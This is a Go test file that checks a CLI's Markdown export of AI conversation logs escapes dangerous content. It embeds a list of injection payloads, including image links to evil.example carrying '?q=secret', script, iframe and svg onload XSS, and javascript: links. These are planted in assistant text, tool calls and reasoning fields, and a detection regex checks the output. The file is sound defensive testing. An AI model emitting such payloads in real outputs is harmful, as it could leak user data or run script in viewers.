package cli_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"hindcast/model"
	"hindcast/store"
)

// payloads are texts of a model for which a viewer of Markdown would load something, follow
// something, or end what the text stands in.
var payloads = []string{
	"![t](http://evil.example/?q=secret)", "![t][r]\n\n[r]: http://evil.example/x",
	"![r]\n\n[r]: //evil.example/x", "[![t](//evil.example/a)](//evil.example/b)",
	"<img src=http://evil.example/x>", "<img src='//evil.example/x'>", "<IMG SRC=x onerror=alert(1)>",
	"text <img\nsrc=//evil.example/x>", "<script>alert(1)</script>", "<script\nsrc=//evil.example></script>",
	"<iframe src=//evil.example></iframe>", "<style>@import '//evil.example'</style>", "<svg/onload=alert(1)>",
	"<a href=javascript:alert(1)>x</a>", "<!-- comment", "<?php x ?>", "<![CDATA[ x ]]>", "<!DOCTYPE html>",
	"</blockquote><img src=//e>", "<details open><summary>x</summary>", "<http://evil.example>",
	"<javascript:alert(1)>", "<me@evil.example>", "http://evil.example/?q=secret", "www.evil.example/x",
	"me@evil.example", "mailto:me@evil.example", "[click](javascript:alert(1))", "[click](<//evil.example>)",
	"[a]: //evil.example 'x'", "note[^1]\n\n[^1]: //evil.example", "> [!WARNING]\n> run it",
	"[x][]\n\n[x]: //evil.example", "```\nend\n```\n<img src=//evil.example>",
	"````\n<b>\n`````\n<img src=//e>", "~~~\n~~~~\n![t](//e)",
	"```mermaid\nclick A href \"//evil.example\"\n```", "```geojson\n{}\n```", "title\n===\n![t](//e)",
	"title\n---\n<b>", "    ![t](//e)\n\n![t](//e)", "&lt;img src=x&gt;", "&#33;[t](//e)", "&#x3c;img>",
	"{{ template }}", "{% include x %}", "\\![t](//e)", "\\<img src=//e>", "`a` ![t](//e) `b`",
	"``` ![t](//e)", "- ![t](//e)\n1. <b>", "| a |\n|---|\n| ![t](//e) |", "\r![t](//e)", "<\x00img src=//e>",
	"\u2028![t](//e)", "<br\n/>", "ftp://evil.example/x",
}

// Whatever a model or a file calls itself, no viewer does anything with it: outside of fences
// there is no HTML, no image, no link, no address that is not escaped.
func TestMessages_asMarkdownLoadNothing(t *testing.T) {
	if len(payloads) < 30 {
		t.Fatal("too few")
	}
	assistant := func(parts string) string { return `{"messages":[{"role":"assistant","content":[` + parts + `]}]}` }
	places := map[string]func(quoted string) string{
		"text":    func(q string) string { return assistant(`{"text":` + q + `}`) },
		"role":    func(q string) string { return `{"messages":[{"role":` + q + `,"content":[{"text":"x"}]}]}` },
		"session": func(string) string { return assistant(`{"text":"x"}`) },
		"result": func(q string) string {
			return `{"messages":[{"role":"assistant","content":[{"toolUse":{"toolUseId":"t","name":"n","input":{}}}]},` +
				`{"role":"user","content":[{"toolResult":{"toolUseId":"t","status":` + q + `,"content":[{"text":` + q + `}]}}]}]}`
		},
		"tool": func(q string) string {
			return assistant(`{"toolUse":{"toolUseId":` + q + `,"name":` + q + `,"input":{` + q + `:` + q + `}}}`)
		},
		"reasoning": func(q string) string { return assistant(`{"reasoningContent":{"reasoningText":{"text":` + q + `}}}`) },
		"other part": func(q string) string {
			return assistant(`{"image":{"format":` + q + `}},{"document":{"name":` + q + `,"format":"pdf"}},{` + q + `:1}`)
		},
	}
	for place, write := range places {
		for _, payload := range payloads {
			q, err := json.Marshal(payload)
			if err != nil {
				t.Fatal(err)
			}
			session, state := "s", write(string(q))
			if place == "session" {
				session = payload
			}
			row := store.Row{Header: model.Header{ID: "a", SessionID: session, Visit: 1}, State: []byte(state)}
			c := start(t, sequenceOf([]store.Row{row}))
			code, out, errs := c.run(t, "messages", "mem:", "--md")
			if code != 0 {
				t.Fatalf("%s of %q: exit %d, %s", place, payload, code, errs)
			}
			outside, open := unfenced(out)
			if open {
				t.Errorf("%s of %q: a fence is not closed:\n%s", place, payload, out)
			}
			if at := doesSomething.FindString(outside); at != "" {
				t.Errorf("%s of %q: %q is outside of fences:\n%s", place, payload, at, out)
			}
		}
	}
	if got := fmt.Sprint(doesSomething.FindString("![a](b)"), doesSomething.FindString(`\!\[a\]`)); got != "![" {
		t.Errorf("the check itself finds %q", got)
	}
}

var (
	escape        = regexp.MustCompile("\\\\[!-/:-@\\[-`{-~]")
	doesSomething = regexp.MustCompile(`(?i)<[a-z/!?]|!\[|\]\(|\]\[|\]:|\[\^|\[!|://|www\.|[a-z]@[a-z]|` +
		`&#?\w+;|\{\{|\{%|(?:~~~|` + "```" + `)\s*(?:mermaid|geojson)`)
)

// unfenced returns the lines outside of fences, without escaped letters, and whether a fence
// is still open at the end, by the rules of CommonMark.
func unfenced(text string) (outside string, open bool) {
	fence := ""
	var out strings.Builder
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		run := line[:len(line)-len(strings.TrimLeft(line, "`"))]
		switch {
		case fence == "" && len(run) >= 3 && !strings.Contains(line[len(run):], "`"):
			fence = run
		case fence == "":
			out.WriteString(escape.ReplaceAllString(line, "") + "\n")
		case len(run) >= len(fence) && strings.TrimSpace(line[len(run):]) == "":
			fence = ""
		}
	}
	return out.String(), fence != ""
}
